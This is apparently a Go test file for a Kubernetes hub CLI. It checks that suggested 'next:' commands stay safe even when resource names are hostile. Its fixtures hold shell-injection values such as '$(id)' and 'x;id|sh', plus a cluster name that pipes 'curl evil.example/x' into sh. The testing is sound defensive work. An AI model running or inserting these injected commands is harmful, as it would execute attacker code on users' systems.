package cli

import (
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/spokelet/spokelet/internal/names"
)

var (
	// command is what a person copies behind "next:".
	command = regexp.MustCompile(`(?m)^ *next(?:, on the hub of the bundle)?: (.*)$`)
	// quoted is what a shell takes as it is.
	quoted = regexp.MustCompile(`'[^']*'|\\'`)
	// harmless are characters that mean nothing to a shell.
	harmless = regexp.MustCompile(`^[A-Za-z0-9 ./:=@_,()-]*$`)
)

// copied are the commands behind "next:" of an answer.
func copied(out string) []string {
	var all []string
	for _, found := range command.FindAllStringSubmatch(out, -1) {
		all = append(all, found[1])
	}
	return all
}

// Kubernetes takes any name of a certificate request but one with "/" or "%", from all who may ask for a certificate: a
// holder of a bootstrap credential, or the agent of a cluster.
func TestTheNameOfARequestIsNotACommandOfAShell(t *testing.T) {
	for _, name := range []string{"x;id|sh", "$(id)", "`id`", "a & id", "a'b;id", "x --kubeconfig=evil", "--from=evil.tgz"} {
		for _, args := range [][]string{{"check"}, {"why", "csr", "--", name}} {
			t.Run(args[0]+" "+name, func(t *testing.T) {
				h := shop()
				joins := of("", "store-300")
				joins["spec"] = map[string]any{"hubAcceptsClient": true}
				request := labelled(of("", name), map[string]any{names.LabelClusterName: "store-300"})
				request["spec"] = map[string]any{"signerName": "kubernetes.io/kube-apiserver-client", "username": "bootstrap"}
				request["status"] = map[string]any{}
				if args[0] == "check" { // One that nobody has signed is named itself.
					request["status"] = map[string]any{"conditions": []any{map[string]any{"type": "Approved", "status": "True"}}}
				}
				h.lists[pathClusters] = append(h.lists[pathClusters], joins)
				h.lists[pathRequests] = append(h.lists[pathRequests], request)
				got := plays(t, h, args...)
				all := copied(got.out)
				require.NotEmpty(t, all, got.out)
				for _, one := range all {
					bare := quoted.ReplaceAllString(one, "")
					assert.Regexp(t, harmless, bare, one)
					assert.NotContains(t, bare, "--kubeconfig", one)
					if strings.Contains(one, "--from") {
						assert.Contains(t, one, " -- ", "a name that begins with - is an option")
					}
				}
			})
		}
	}
}

// Nobody checked the names in a bundle: they are what the person wrote who made the file.
func TestTheNamesOfABundleAreNotCommandsOfAShell(t *testing.T) {
	h := shop()
	h.lists[pathClusters] = append(h.lists[pathClusters], of("", "store-300;curl evil.example/x|sh"))
	h.lists[pathAddOns] = append(h.lists[pathAddOns],
		addOn("$(id)", "logs", condition("Available", "False", "ManagedClusterAddOnLeaseUpdateStopped", "", 5)))
	file := filepath.Join(t.TempDir(), "x.tgz")
	require.Equal(t, statusWell, plays(t, h, "bundle", "-f", file).status)
	all := copied(run(t, "check", "--from", file).out)
	require.NotEmpty(t, all)
	for _, one := range all {
		assert.Regexp(t, harmless, quoted.ReplaceAllString(one, ""), one)
	}
}
